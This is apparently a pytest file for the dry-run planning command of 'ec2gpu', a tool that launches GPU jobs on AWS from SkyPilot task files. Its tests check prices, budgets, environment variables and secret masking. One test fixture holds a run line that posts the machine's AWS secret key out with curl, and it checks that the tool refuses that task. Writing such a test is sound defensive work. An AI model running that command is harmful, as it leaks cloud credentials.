"""`ec2gpu run FILE --dry-run [--json]` (issue 28, item 12): the plan, from the task and this
machine's files alone: no AWS API, no credentials, no sandbox started, nothing written."""
import json
import os
from pathlib import Path

import pytest

from ec2gpu import api, cli
from ec2gpu.runs.plan import dryrun

SKY = """name: demo
resources:
  accelerators: {A100:1}
  cpus: 8+
  disk_size: 256GB
envs:
  USE_BF16: false
secrets:
  HF_TOKEN: null
setup: pip install -r requirements.txt
run: python train.py --bf16 $USE_BF16
"""


@pytest.fixture()
def project(no_aws, monkeypatch):
    """tmp_path with a project in proj/ holding a SkyPilot task file, the current directory
    (conftest.no_aws: no AWS, no credentials)."""
    root = no_aws / "proj"
    root.mkdir()
    (root / "sky.yaml").write_text(SKY)
    (root / "train.py").write_text("print('hi')\n")
    monkeypatch.chdir(root)
    return no_aws


def test_the_json_plan_names_types_prices_limit_environment_and_changes_and_creates_nothing(project, monkeypatch,
                                                                                           capsys):
    monkeypatch.setenv("HF_TOKEN", "hf_s3cret_value")
    assert cli.main(["run", "sky.yaml", "--dry-run", "--allow-larger", "--json", "--sandbox"]) == 0
    shown = capsys.readouterr()
    plan = json.loads(shown.out)
    assert plan["kind"] == "plan" and plan["version"] == 1 and plan["task"] == "demo"
    [row] = plan["instance_types"]
    assert row["instance_type"] == "p4d.24xlarge" and row["gpu"] == "A100" and row["gpu_count"] == 8
    assert row["gpus_used"] == 1 and row["larger"] and row["on_demand_usd_per_hour"] == 21.96
    assert plan["disk_gib"] == 256 and plan["market"] == "on-demand" and plan["nodes"] == 1
    # its first run: a 24 h limit, and so the most it can cost
    assert plan["max_runtime"]["minutes"] == 24 * 60 and plan["estimate"]["job_minutes"] is None
    assert plan["estimate"]["at_most_usd"] == round(21.96 * 24, 2)
    env = plan["env"]
    assert env["CUDA_VISIBLE_DEVICES"] == "0" and env["SKYPILOT_NUM_GPUS_PER_NODE"] == "1"
    assert env["USE_BF16"] == "False" and env["HF_TOKEN"] == "****"
    assert "hf_s3cret_value" not in shown.out + shown.err
    assert plan["workdir"]["local"] is None  # SkyPilot sends nothing without a workdir
    assert plan["run"] == "python train.py --bf16 $USE_BF16"
    assert row["vcpus"] >= 8 and not any("resources.cpus" in c for c in plan["changes"])  # cpus: 8+ is read
    assert any("allow_larger: p4d.24xlarge" in c for c in plan["changes"])
    home = Path(os.environ["EC2GPU_HOME"])
    assert not home.exists() or not any(home.rglob("*"))  # no sandbox state, no ledger, no key


def test_the_plan_in_words_lists_each_type_in_order_and_what_changes(project, monkeypatch, capsys):
    (project / "proj" / "t.yaml").write_text("name: t\nworkdir: .\nresources:\n  any_of:\n    - gpu: L4:1\n"
                                            "    - gpu: A10G:1\nrun: python train.py\n")
    assert cli.main(["run", "t.yaml", "--dry-run"]) == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert lines[0].startswith("plan for task t") and "nothing is created" in lines[0]
    assert lines[1].startswith("  try  g6.xlarge: 1 x L4") and lines[2].startswith("  then g5.xlarge: 1 x A10G")
    assert "max runtime: 24 h" in out and "workdir: " in out and "3 files" in out, out


def test_a_dry_run_refuses_what_the_run_would_refuse_in_one_line(project, capsys):
    (project / "proj" / "t.yaml").write_text("name: t\nresources:\n  accelerators: A100:1\nrun: x\n")
    assert cli.main(["run", "t.yaml", "--dry-run"]) == 2
    err = " ".join(capsys.readouterr().err.split())  # one line, however rich wrapped it
    assert "no EC2 instance type has exactly 1 x A100" in err and "Traceback" not in err


def test_a_flag_replaces_the_files_request_and_is_what_the_plan_shows(project, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "x")
    plan = dryrun.plan(api.run("sky.yaml", gpu="L4", dry_run=True))  # the file's A100:1 alone is refused: the flag wins
    # ... and the file's cpus: 8+ still holds: the cheapest 1 x L4 type with 8 vCPUs or more
    assert [r["instance_type"] for r in plan["instance_types"]] == ["g6.2xlarge"]
    assert plan["env"]["SKYPILOT_NUM_GPUS_PER_NODE"] == "1" and "CUDA_VISIBLE_DEVICES" not in plan["env"]


def test_a_task_file_cannot_take_this_machines_aws_credentials_and_what_it_takes_is_said(project, monkeypatch,
                                                                                       capsys):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "the-real-secret")
    monkeypatch.setenv("HF_TOKEN", "hf_x")
    (project / "proj" / "steal.yaml").write_text("name: s\nworkdir: null\nsecrets:\n  AWS_SECRET_ACCESS_KEY: null\n"
                                                 "resources:\n  accelerators: T4:1\nrun: curl -d \"$AWS_SECRET_ACCESS_KEY\" x\n")
    assert cli.main(["run", "steal.yaml", "--dry-run"]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "AWS_SECRET_ACCESS_KEY would copy this machine's AWS credentials" in err and "the-real-secret" not in err
    assert cli.main(["run", "sky.yaml", "--dry-run", "--allow-larger", "--env", "AWS_ACCESS_KEY_ID"]) == 2
    capsys.readouterr()
    assert cli.main(["run", "sky.yaml", "--dry-run", "--allow-larger"]) == 0
    assert "from this machine's environment: HF_TOKEN (secret, masked)" in " ".join(capsys.readouterr().err.split())


def test_the_plan_says_whether_the_budget_would_refuse_and_shows_file_mounts_and_a_git_workdir(project, capsys):
    (project / "proj" / "data").mkdir()
    (project / "proj" / "data" / "x.txt").write_text("x")
    (project / "proj" / "m.yaml").write_text(
        "resources:\n  accelerators: T4:1\nworkdir:\n  url: https://github.com/o/r.git\n  ref: v1\n"
        "file_mounts:\n  /data: ./data\n  ~/ds:\n    source: s3://my-bucket/ds\n    mode: MOUNT\nrun: ls /data\n")
    # on-demand, its price needs no AWS call: a budget the run would refuse is refused here, with its line
    assert cli.main(["run", "m.yaml", "--dry-run", "--json", "--budget", "5", "--allow-write-bucket", "my-bucket"]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "error: --budget $5.00: task m has not run on g4dn.xlarge before" in err and "up to $12.62" in err
    # spot: the run judges the zone's spot price (AWS's); the plan says how it stands at the on-demand ceiling
    assert cli.main(["run", "m.yaml", "--dry-run", "--json", "--budget", "5", "--spot",
                     "--allow-write-bucket", "my-bucket"]) == 0
    plan = json.loads(capsys.readouterr().out)
    assert plan["budget"]["refused"] and "$12.62, is above the budget $5.00" in plan["budget"]["why"]
    assert plan["workdir"]["git"] == {"url": "https://github.com/o/r.git", "ref": "v1"}
    local, s3 = plan["file_mounts"]
    assert (local["kind"], local["files"], local["bytes"]) == ("local", 1, 1)
    assert (s3["source"], s3["write_back"], s3["mode"]) == ("s3://my-bucket/ds", True, "MOUNT")
    assert any("instance role of this run alone" in s for s in plan["safety"])
    assert cli.main(["run", "m.yaml", "--dry-run", "--json", "--budget", "50", "--allow-write-bucket", "my-bucket"]) == 0
    assert json.loads(capsys.readouterr().out)["budget"]["refused"] is False


def test_a_dry_run_imports_no_aws_sdk(project):
    """Under a second per file (issue 28): the plan needs no boto3/botocore (about 0.2 s to import)."""
    import subprocess
    import sys
    code = ("import sys; from ec2gpu import cli; rc = cli.main(['run', 'sky.yaml', '--dry-run', '--json', "
            "'--allow-larger']); print(rc, sorted(m for m in ('boto3', 'botocore', 'fabric', 'paramiko') "
            "if m in sys.modules))")
    got = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                         env={**os.environ, "HF_TOKEN": "x"})
    assert got.stdout.strip().splitlines()[-1] == "0 []", got.stdout + got.stderr


def test_the_plans_cost_is_the_figure_the_run_says_boot_setup_and_ec2s_minimum_billed(project, capsys):
    """Issue 48 item 3: a sandbox dry run said "~$0.0008 for 0.1 min of job" where the run it plans said
    "$0.0088 for ~60 s billed". The plan's one cost line is the run's own estimate (costs.estimate_for,
    which the run prints and judges --budget by): boot, setup and teardown in, 60 s at least, all nodes."""
    (project / "proj" / "t.yaml").write_text("name: short\nrun: echo hi\nresources:\n  gpu: T4\n")
    assert cli.main(["run", "t.yaml", "--dry-run", "--json", "--sandbox", "--expect", "6s", "--nodes", "2"]) == 0
    est = json.loads(capsys.readouterr().out)["estimate"]
    run = est["run"]
    assert run["billed_seconds"] >= 60 and run["billed_seconds"] > run["train_seconds"]
    assert est["expected_usd"] == run["cost_usd"] and run["cost_usd"] > 2 * 6 / 3600 * 0.526  # 2 nodes, more than 6 s
    assert cli.main(["run", "t.yaml", "--dry-run", "--sandbox", "--expect", "6s", "--nodes", "2"]) == 0
    text = capsys.readouterr().out
    [line] = [ln for ln in text.splitlines() if "$" in ln and "cost" in ln]
    assert f"~${run['cost_usd']:.4f} for ~{run['billed_seconds']:.0f} s billed x 2 nodes" in line
    assert "the run's estimate" not in text


def test_an_arrays_plan_shows_element_0s_own_environment_one_node_and_no_raw_newline(project, capsys):
    """Issue 48 item 4: each element is a one-node job on its own instance (pool/driver.run_element);
    a two-node plan's SKYPILOT_NODE_IPS is shown on one line, its newline as \\n."""
    (project / "proj" / "t.yaml").write_text("workdir: .\nrun: echo hi\narray: 12\nmax_workers: 2\n"
                                             "resources:\n  instance_type: g4dn.xlarge\n")
    assert cli.main(["run", "t.yaml", "--dry-run", "--json", "--sandbox"]) == 0
    env = json.loads(capsys.readouterr().out)["env"]
    assert env["EC2GPU_NUM_NODES"] == env["SKYPILOT_NUM_NODES"] == "1" and env["EC2GPU_NODE_RANK"] == "0"
    assert env["SKYPILOT_NODE_IPS"] == env["EC2GPU_HEAD_IP"] == "<its instance's private IP>"
    assert env["EC2GPU_ARRAY_INDEX"] == "0" and env["EC2GPU_OUTPUT_DIR"].endswith("/elements/0/out")
    assert cli.main(["run", "t.yaml", "--dry-run", "--sandbox"]) == 0
    said = capsys.readouterr().out
    assert "environment of element 0: " in said and "EC2GPU_NUM_NODES=1," in said
    (project / "proj" / "two.yaml").write_text("workdir: .\nrun: echo hi\nnum_nodes: 2\n"
                                               "resources:\n  instance_type: g4dn.xlarge\n")
    capsys.readouterr()
    assert cli.main(["run", "two.yaml", "--dry-run", "--sandbox"]) == 0, capsys.readouterr().err
    line = next(ln for ln in capsys.readouterr().out.splitlines() if "environment of node 0" in ln)
    assert "SKYPILOT_NODE_IPS=<node 0 private IP>\\n<node 1 private IP>," in line
